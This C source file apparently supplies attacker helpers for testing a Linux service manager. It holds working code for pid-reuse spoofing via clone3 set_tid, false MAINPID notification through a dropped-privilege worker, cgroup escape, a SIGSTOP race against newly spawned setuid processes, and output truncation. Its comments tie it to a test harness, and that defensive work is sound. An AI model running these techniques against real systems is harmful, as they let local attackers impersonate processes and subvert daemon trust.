#include "attacker.h"

#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void become(long id) {
    gid_t group = (gid_t)id;
    if (setgroups(1, &group) || setresgid(group, group, group)
        || setresuid((uid_t)id, (uid_t)id, (uid_t)id))
        fail("setuid");
}

// Speaks to a socket as a process that ends, then has the kernel give the number of that process to one in `GROUP`.
//
// What chance brings an attacker after some rounds of pids, clone3(2) brings root at once. The test sees to it that the
// daemon hears of the message only after "replaced".
int replace_pid(char **arguments) {
    for (int i = 0; i < 5; i++)
        if (!arguments[i]) return 64;
    bool is_datagram = !strcmp(arguments[1], "dgram");
    size_t size;
    char *bytes = content(arguments[3], &size);
    long uid = number(arguments[4]);
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) fail("socketpair");
    pid_t speaker = fork();
    if (speaker == 0) {
        become(uid);
        int fd = try_connect(arguments[0], is_datagram ? SOCK_DGRAM : SOCK_STREAM);
        if (fd < 0) _exit(errno == EACCES ? 13 : 1);
        bool sent = is_datagram ? send(fd, bytes, size, 0) > 0 : send_all(fd, bytes, size);
        // The connection goes on in a process of another number.
        send_descriptors(pair[1], "x", 1, &fd, 1);
        _exit(sent ? 0 : 1);
    }
    int status;
    waitpid(speaker, &status, 0);
    if (!WIFEXITED(status) || WEXITSTATUS(status)) {
        printf("refused: %s\n", WEXITSTATUS(status) == 13 ? "Permission denied" : "not sent");
        return 0;
    }
    int fd = receive_descriptor(pair[0]);
    if (fd < 0) fail("the connection");
    int group = open(arguments[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (group < 0) fail(arguments[2]);
    pid_t wanted = speaker;
    struct clone_args request = {
        .flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD, .set_tid = (uintptr_t)&wanted, .set_tid_size = 1,
        .cgroup = (uint64_t)group,
    };
    long child = syscall(SYS_clone3, &request, sizeof request);
    if (child < 0) fail("clone3");
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        pause();
        _exit(0);
    }
    printf("replaced %ld\n", child);
    static char room[1 << 16];
    if (!is_datagram) {
        ssize_t got;
        int64_t end = now_usec() + 3000000;
        while ((got = receive_message(fd, room, sizeof room - 1, end)) > 0) {
            room[got] = 0;
            printf("%s\n", room);
        }
        printf(got == 0 ? "closed\n" : "over\n");
    } else {
        // Long enough for the daemon to hear it, as the test sees.
        sleep_until(now_usec() + 3000000);
    }
    kill((pid_t)child, SIGKILL);
    waitpid((pid_t)child, NULL, 0);
    return 0;
}

static void notify(const char *text) {
    const char *path = getenv("NOTIFY_SOCKET");
    int fd = path ? try_connect(path, SOCK_DGRAM) : -1;
    if (fd < 0 || send(fd, text, strlen(text), 0) < 0) fail("notify");
    close(fd);
}

// A worker that gives its rights away by itself, as nginx does, and is taken over then: it names a child of another environment as
// its main process.
int turncoat(char **arguments) {
    if (!arguments[0]) return 64;
    if (!strcmp(arguments[0], "child")) {
        for (;;) pause();
    }
    // The socket was opened before, as by a program that reports again and again.
    int fd = connect_to(getenv("NOTIFY_SOCKET"), SOCK_DGRAM);
    become(number(arguments[0]));
    pid_t child = fork();
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        char *line[] = {"attacker", "turncoat", "child", NULL};
        execve("/proc/self/exe", line, arguments + 1);
        fail("execve");
    }
    char path[64], link[4096];
    snprintf(path, sizeof path, "/proc/%d/environ", child);
    // Named only once its environment is the new one.
    for (int i = 0; i < 1000; i++) {
        int environment = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t got = environment >= 0 ? read(environment, link, sizeof link) : -1;
        if (environment >= 0) close(environment);
        if (got > 0 && arguments[1] && !strncmp(link, arguments[1], strlen(arguments[1]))) break;
        usleep(5000);
    }
    char text[64];
    snprintf(text, sizeof text, "MAINPID=%d\nREADY=1\nSTATUS=turned", child);
    if (send(fd, text, strlen(text), 0) < 0) fail("MAINPID");
    for (;;) pause();
}

// The main process of a worker that moves itself out of its group, as `su -l` does by pam_systemd.
int leave_group(char **arguments) {
    if (!arguments[0] || !arguments[1]) return 64;
    char path[4096];
    snprintf(path, sizeof path, "%s/cgroup.procs", arguments[0]);
    put(path, "0");
    if (getenv("NOTIFY_SOCKET")) notify("READY=1");
    int fd = open(arguments[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd < 0) fail(arguments[1]);
    for (;;) {
        if (write(fd, "tick\n", 5) != 5) fail("write");
        usleep(10000);
    }
}

// The newest pid of the machine, as a process that is born and ends tells.
static pid_t newest(void) {
    pid_t child = vfork();
    if (child == 0) _exit(0);
    if (child > 0) waitpid(child, NULL, 0);
    return child;
}

// What /proc says of a process in a file; empty where it is gone.
static void describe(pid_t pid, const char *file, char *room, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t got = fd < 0 ? -1 : read(fd, room, size - 1);
    if (fd >= 0) close(fd);
    room[got > 0 ? got : 0] = 0;
}

// Whether a process that was sent SIGSTOP has stopped before its own program: a signal that comes within execve(2) is too late.
static bool is_caught(pid_t pid) {
    char status[512];
    for (int64_t end = now_usec() + 20000; now_usec() < end;) {
        describe(pid, "stat", status, sizeof status);
        const char *name = strchr(status, '('), *after = strrchr(status, ')');
        if (!name || !after || strncmp(name, "(torpo", 6)) return false;
        if (!strncmp(after, ") T", 3)) return true;
        usleep(200);
    }
    return false;
}

// Sends SIGSTOP to the next pids again and again: whatever runs under its uid between setresuid(2) and execve(2) is stopped.
int stop_children(char **arguments) {
    if (!arguments[0] || !arguments[1]) return 64;
    int64_t end = now_usec() + number(arguments[0]) * 1000000;
    int64_t hold = number(arguments[1]) * 1000000;
    unsigned long long tries = 0, others = 0;
    while (now_usec() < end) {
        pid_t first = newest() + 1;
        int64_t fresh = now_usec() + 1000;
        while (now_usec() < fresh) {
            for (pid_t pid = first; pid < first + 24; pid++) {
                tries++;
                if (kill(pid, SIGSTOP)) continue;
                if (!is_caught(pid)) {
                    kill(pid, SIGCONT);
                    others++;
                    continue;
                }
                printf("hit %d after %llu kill(2) calls\n", pid, tries);
                sleep_until(now_usec() + hold);
                char status[512];
                describe(pid, "stat", status, sizeof status);
                const char *after = strrchr(status, ')');
                bool is_there = after && !strncmp(after, ") T", 3);
                kill(pid, SIGCONT);
                printf(is_there ? "let go\n" : "ended meanwhile\n");
                return 0;
            }
        }
    }
    printf("no hit in %llu kill(2) calls, %llu too late\n", tries, others);
    return 0;
}

int truncate_output(char **arguments) {
    if (!arguments[0]) return 64;
    // What cannot be emptied is a pipe, and no harm.
    for (int fd = STDOUT_FILENO; fd <= STDERR_FILENO; fd++) {
        if (ftruncate(fd, 0) == 0) lseek(fd, 0, SEEK_SET);
        dprintf(fd, "%s\n", arguments[0]);
    }
    for (;;) pause();
}
